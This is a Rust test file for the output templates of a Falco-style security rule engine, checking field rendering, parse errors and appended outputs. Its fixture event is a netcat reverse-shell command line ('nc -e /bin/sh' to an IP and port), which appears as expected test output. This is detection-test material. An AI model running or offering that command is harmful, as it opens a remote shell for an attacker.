//! Rule outputs: which ones are accepted, the messages about others, and the lines.

use super::{complaints, netcat, programs::Programs, rule, rules_with, with_event};
use crate::{AppendOutput, ExtraField, Options};

type Template = crate::Template<Programs>;

fn error(text: &str) -> (usize, String) {
    let error = Template::parse(text).unwrap_err();
    (error.at, error.message.into())
}

fn text(template: &str) -> String {
    with_event(&netcat(), |event| {
        let mut out = Vec::new();
        Template::parse(template).unwrap().render(event, &mut out);
        String::from_utf8(out).unwrap()
    })
}

#[test]
fn templates_are_rendered() {
    for (template, expected) in [
        ("just words.", "just words."),
        ("cmd=%proc.cmdline!", "cmd=nc -e /bin/sh 10.0.0.1 4444!"),
        ("%proc.name%proc.pid", "nc1000"),
        ("%proc.name_x.", "nc_x."),
        ("%5proc.name|%1proc.name|", "nc   |n|"),
        (
            "%proc.aname[1] %proc.aname[9] %proc.aname",
            "bash <NA> bash systemd",
        ),
        ("%toupper(proc.name) %len(proc.args)", "NC 24"),
        ("%fd.directory %fd.ip", "<NA> <NA>"),
        ("%getopt(proc.args, \"e:\")[e]", "/bin/sh"),
        ("*%proc.name* *", "nc* *"),
    ] {
        assert_eq!(text(template), expected, "{template}");
    }
}

#[test]
fn the_longest_text_that_is_a_field_is_one() {
    for (template, expected) in [
        ("%proc.name[%proc.pid]", "nc[1000]"),
        ("%proc.name[1]", "nc[1]"),
        ("%proc.name.", "nc."),
        ("%proc.name.x", "nc.x"),
        ("%proc.pnames", "bashs"),
        ("%proc.aname[1]x", "bashx"),
        (
            "%proc.aname[x] %proc.aname[",
            "bash systemd[x] bash systemd[",
        ),
        ("%proc.aname[[1]]", "bash systemd[[1]]"),
        ("%proc.env[HOME]%proc.env['HOME']", "HOMEHOME"),
        ("%proc.env['a ]'] %proc.env[a b]", "a ] <NA>[a b]"),
        ("%proc.env.HOME[1]", "HOME[1]"),
        ("%0proc.name|", "nc|"),
        ("%toupper(proc.name)[x]", "NC[x]"),
    ] {
        assert_eq!(text(template), expected, "{template}");
    }
    let template = Template::parse("%proc.env['HOME'] %proc.env[HOME] %proc.env['a b']").unwrap();
    let keys: Vec<_> = template.fields().iter().map(|field| &*field.key).collect();
    assert_eq!(keys, ["proc.env[\"a b\"]", "proc.env[HOME]"]);
    // Falco has no such limit: a literal would not say that the events never have so many.
    let message = "field 'proc.aname' takes at most 16 in brackets, not 17: events have no more";
    assert_eq!(error("%proc.aname[17]").1, message);
}

#[test]
fn mistakes_have_their_place() {
    for (text, at) in [
        ("%%", 0),
        ("%%proc.name", 0),
        ("100% sure", 3),
        ("x %", 2),
        ("%5", 0),
        ("%*proc.name", 0),
        ("%(proc.name)", 0),
        ("*%[proc.name]", 1),
    ] {
        let message = "'%' is not followed by a field";
        assert_eq!(error(text), (at, message.into()), "{text}");
    }
    assert_eq!(error("a %foo.bar"), (3, "unknown field 'foo.bar'".into()));
    assert_eq!(error("%4097proc.name").1, "a width is at most 4096");
    assert_eq!(error("%toupper()").1, "toupper() takes one argument, not 0");
    assert_eq!(
        error("%join(\",\", proc.name)").1,
        "join() takes a list as its second argument"
    );
    let deep = format!("%{}proc.name{}", "tolower(".repeat(99), ")".repeat(99));
    assert_eq!(error(&deep).1, "more than 16 transformers in each other");
}

#[test]
fn fields_are_distinct_and_sorted() {
    let template = Template::parse("%proc.pid %toupper(proc.name) %5proc.pid").unwrap();
    let keys: Vec<_> = template.fields().iter().map(|field| &*field.key).collect();
    assert_eq!(keys, ["proc.name", "proc.pid"]);
}

#[test]
fn outputs_are_appended_to() {
    let options = Options {
        append_output: vec![
            AppendOutput {
                extra_output: vec!["a".into(), "b %proc.pid".into()],
                extra_fields: vec![("proc.pid".into(), None), ("k".into(), Some("v".into()))],
                ..AppendOutput::default()
            },
            AppendOutput {
                tags: vec!["missing".into()],
                extra_output: vec!["never".into()],
                ..AppendOutput::default()
            },
        ],
        ..Options::default()
    };
    let set = rules_with(&rule("r", "evt.type = execve"), &options);
    let rule = &set.rules()[0];
    assert_eq!(rule.output.text(), "o a b %proc.pid");
    let keys: Vec<_> = rule.extra.iter().map(ExtraField::key).collect();
    assert_eq!(keys, ["k", "proc.pid"]);
}

#[test]
fn what_is_obsolete_is_left_out_with_a_warning() {
    let text = rule("r", "evt.type = execve")
        .replace("output: o", "output: a (%container.info) %proc.name");
    let set = rules_with(&text, &Options::default());
    assert_eq!(set.rules()[0].output.text(), "a () %proc.name");
    let said = complaints(&[&text]);
    assert!(
        said.starts_with("LOAD_DEPRECATED_ITEM 0.yaml:4:14: warning: '%container.info'"),
        "{said}"
    );
}
